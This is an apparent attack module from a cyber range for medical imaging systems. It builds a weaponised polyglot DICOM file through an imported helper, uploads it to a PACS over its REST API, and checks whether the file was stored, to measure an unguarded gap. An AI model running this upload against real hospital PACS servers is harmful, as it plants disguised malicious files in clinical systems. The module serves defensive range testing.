"""Polyglot upload over the PACS's REST API (STOW-style): the file is kept byte for byte, preamble included (T1027.009).

The gateway inspects DICOM only; no layer of the range fronts the web port: a measured gap.
"""

from __future__ import annotations

import io

from radguard.range.attacks.kit import Attack, Context, Outcome
from radguard.range.attacks.polyglot_store import weaponise


def run(ctx: Context) -> Outcome:
    ds, uid = weaponise(ctx)
    buf = io.BytesIO()
    ds.save_as(buf, enforce_file_format=True)
    code, _ = ctx.rest("POST", "/instances", buf.getvalue())
    stored = code == 200 and ctx.pacs_has(uid)
    return Outcome(success=stored, impact={"objects_stored": int(stored)},
                   note="polyglot stored over REST" if stored else f"refused (HTTP {code})")


ATTACK = Attack(
    name="polyglot-rest", title="Polyglot upload over REST/STOW", attack_ids=("T1027.009", "T1105"),
    precondition="network access to the PACS's web port", objective="the polyglot stored in the PACS",
    layers=(), run=run)
